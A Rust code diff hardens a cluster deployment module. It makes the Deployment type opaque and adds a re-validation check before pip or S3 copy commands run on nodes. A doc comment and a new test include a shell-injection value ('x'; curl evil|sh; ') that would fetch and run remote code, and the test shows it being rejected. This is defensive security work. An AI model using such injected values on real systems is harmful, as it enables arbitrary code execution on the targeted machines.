@@ -35,21 +35,24 @@ static PEP508: LazyLock<Regex> = LazyLock::new(|| {
         .unwrap_or_else(|e| unreachable!("literal regex: {e}"))
 });
 
-/// What to deploy.
+/// What to deploy. Built only by [`Deployment::library`] and [`Deployment::pip`], which
+/// check the value, so an unchecked value cannot reach a node's shell:
+///
+/// ```compile_fail
+/// let forged = mliy_core::deploy::Deployment::Library { s3_uri: "x'; curl evil|sh; '".into() };
+/// ```
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(transparent)]
+pub struct Deployment(Kind);
+
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
 #[serde(rename_all = "snake_case")]
-pub enum Deployment {
+enum Kind {
     /// A `.jar` or `.zip` copied from S3 into [`AUX_LIB_DIR`].
-    Library {
-        /// The `s3://bucket/key` to copy.
-        s3_uri: String,
-    },
+    Library { s3_uri: String },
     /// A Python package installed with pip: a PEP 508 name, optional extras and version
     /// clauses, nothing else (no URLs, paths, markers or options).
-    Pip {
-        /// The requirement, e.g. `pandas>=2,<3`.
-        requirement: String,
-    },
+    Pip { requirement: String },
 }
 
 impl Deployment {
@@ -67,7 +70,7 @@ impl Deployment {
                 "must be s3://<bucket>/<key>.jar or .zip; the key may hold letters, digits and _ . + = @ - /",
             ));
         }
-        Ok(Deployment::Library { s3_uri: uri.to_string() })
+        Ok(Deployment(Kind::Library { s3_uri: uri.to_string() }))
     }
 
     /// A pip requirement.
@@ -85,15 +88,46 @@ impl Deployment {
                  URLs, paths, markers and pip options are refused",
             ));
         }
-        Ok(Deployment::Pip { requirement: req.to_string() })
+        Ok(Deployment(Kind::Pip { requirement: req.to_string() }))
+    }
+
+    /// Checks the value again (the engine does before sending it).
+    ///
+    /// # Errors
+    /// As [`Deployment::library`] and [`Deployment::pip`].
+    pub fn check(&self) -> Result<()> {
+        let again = match &self.0 {
+            Kind::Library { s3_uri } => Deployment::library(s3_uri)?,
+            Kind::Pip { requirement } => Deployment::pip(requirement)?,
+        };
+        if again != *self {
+            return Err(Error::validation("deployment", self.value(), "must be given without surrounding spaces"));
+        }
+        Ok(())
+    }
+
+    /// What is deployed, in words: `library s3://…` or `python package …`.
+    pub fn describe(&self) -> String {
+        match &self.0 {
+            Kind::Library { s3_uri } => format!("library {s3_uri}"),
+            Kind::Pip { requirement } => format!("python package {requirement}"),
+        }
+    }
+
+    /// The checked value: the S3 URI or the requirement.
+    pub fn value(&self) -> &str {
+        match &self.0 {
+            Kind::Library { s3_uri } => s3_uri,
+            Kind::Pip { requirement } => requirement,
+        }
     }
 
     /// The shell command each node runs. Values were checked against grammars without
     /// quotes, so single-quoting them is enough.
     pub fn shell_command(&self) -> String {
-        match self {
-            Deployment::Library { s3_uri } => format!("aws s3 cp '{s3_uri}' {AUX_LIB_DIR}"),
-            Deployment::Pip { requirement } => format!("sudo python3 -m pip install '{requirement}'"),
+        match &self.0 {
+            Kind::Library { s3_uri } => format!("aws s3 cp '{s3_uri}' {AUX_LIB_DIR}"),
+            Kind::Pip { requirement } => format!("sudo python3 -m pip install '{requirement}'"),
         }
     }
 
@@ -173,6 +207,18 @@ mod tests {
             let e = Deployment::pip(bad).unwrap_err();
             assert_eq!(e.kind(), "validation", "{bad:?}");
         }
+    }
+
+    #[test]
+    fn a_deployment_is_checked_when_built_and_when_sent() {
+        // The fields are private: `Deployment::Library { s3_uri: "x'; curl …|sh; '" }` does not
+        // compile. What can be built passes the check again.
+        let lib = Deployment::library("s3://libs/a.jar").unwrap();
+        assert!(lib.check().is_ok());
+        assert_eq!((lib.value(), lib.describe().as_str()), ("s3://libs/a.jar", "library s3://libs/a.jar"));
+        let forged = Deployment(Kind::Library { s3_uri: "s3://libs/a.jar'; curl evil|sh; '".into() });
+        assert_eq!(forged.check().unwrap_err().kind(), "validation");
+        assert_eq!(serde_json::to_value(&lib).unwrap(), serde_json::json!({"library": {"s3_uri": "s3://libs/a.jar"}}));
     }
 
     #[test]
